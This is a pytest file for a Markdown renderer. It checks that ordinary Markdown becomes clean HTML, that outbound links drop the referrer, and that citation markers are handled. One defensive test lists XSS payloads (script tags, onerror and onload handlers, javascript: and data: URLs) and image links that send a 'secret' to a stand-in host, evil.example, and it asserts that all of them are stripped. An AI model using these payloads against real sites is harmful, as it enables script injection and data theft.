"""The one renderer: Markdown in, harmless HTML out."""

import pytest

from apps.common.markdown import render_markdown


def test_ordinary_markdown_becomes_ordinary_html():
    html = render_markdown("## Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<h2>Title</h2>" in html
    assert "<strong>bold</strong>" in html
    assert "<li>one</li>" in html
    assert "<td>1</td>" in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/a.png",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "<a href='#' hx-get='/admin/' onclick='x()'>a</a>",
        "<svg/onload=alert(1)>",
    ],
)
def test_nothing_that_runs_or_loads_survives(hostile):
    html = render_markdown(hostile)
    for forbidden in ("<script", "<img", "<svg", 'href="javascript', 'href="data', "<a href='#'"):
        assert forbidden not in html


def test_links_go_out_without_a_referrer():
    assert 'rel="noopener nofollow noreferrer"' in render_markdown("[Quire](https://quire.example)")


def test_citation_marks_become_what_the_page_makes_of_them():
    html = render_markdown("One. [1] Two. [2][3]", cite=lambda number: f'<a class="citation">{number}</a>' if number < 3 else None)
    assert html == '<p>One.<a class="citation">1</a> Two.<a class="citation">2</a>[3]</p>\n'


def test_marks_in_code_and_in_links_stay_as_they_are():
    html = render_markdown("`a[1]` and [1](https://quire.example)", cite=lambda number: "CITED")
    assert "CITED" not in html


def test_marks_without_a_page_to_cite_for_stay_as_text():
    assert render_markdown("One. [1]") == "<p>One.[1]</p>\n"


def test_characters_that_hold_a_citations_place_cannot_be_smuggled_in():
    assert "CITED" not in render_markdown("\ue0001\ue001", cite=lambda number: "CITED")
